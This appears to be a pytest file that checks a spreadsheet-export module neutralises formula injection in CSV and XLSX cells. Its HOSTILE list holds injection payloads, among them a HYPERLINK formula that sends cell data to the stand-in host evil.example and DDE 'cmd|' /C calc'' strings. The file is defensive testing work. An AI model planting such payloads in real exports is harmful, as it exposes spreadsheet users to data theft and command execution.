"""Formula injection in exports (issue 16 item 5): every CSV/XLSX cell passes one neutralising function."""

from __future__ import annotations

import csv
import io
import zipfile
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from fapiao.analytics.export import XlsxWriter, csv_chunk, neutralise, table_bytes

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点我")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_texts_get_a_leading_apostrophe(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["北京海淀示例科技有限公司", "a=b", "", "12345678", "'quoted"])
def test_plain_texts_are_untouched(text: str) -> None:
    assert neutralise(text) == text


def test_csv_cells_are_neutralised_but_numbers_are_not() -> None:
    body = csv_chunk([[*HOSTILE, Decimal("-5.00"), -3, None]], header=["h"] * 10).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))
    assert rows[1][: len(HOSTILE)] == ["'" + t for t in HOSTILE]
    assert rows[1][len(HOSTILE) :] == ["-5.00", "-3", ""]  # numbers stay numbers


def test_xlsx_holds_strings_never_formulas() -> None:
    writer = XlsxWriter("t", ["h"] * len(HOSTILE))
    writer.add([HOSTILE, [["=1+1", "x"], 1, Decimal("2.5")]])
    out = io.BytesIO()
    writer.finish(out)
    sheet_xml = zipfile.ZipFile(io.BytesIO(out.getvalue())).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    rows = list(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows())  # type: ignore[union-attr]
    assert [c.value for c in rows[1]] == [t.replace("\r", "\n") for t in HOSTILE]  # as typed (XML: \r is \n)
    assert all(c.data_type == "s" and c.quotePrefix for c in rows[1])  # … as quoted strings
    assert [c.value for c in rows[2][:3]] == ["=1+1;x", 1, 2.5] and rows[2][0].data_type == "s"


def test_report_tables_use_the_same_neutralising() -> None:
    as_csv = table_bytes(["seller"], [[HOSTILE[0]]], "csv", "r").decode("utf-8-sig")
    assert as_csv.splitlines()[1].startswith("\"'=HYPERLINK")
    as_xlsx = table_bytes(["seller"], [[HOSTILE[0]]], "xlsx", "r")
    assert b"<f>" not in zipfile.ZipFile(io.BytesIO(as_xlsx)).read("xl/worksheets/sheet1.xml")
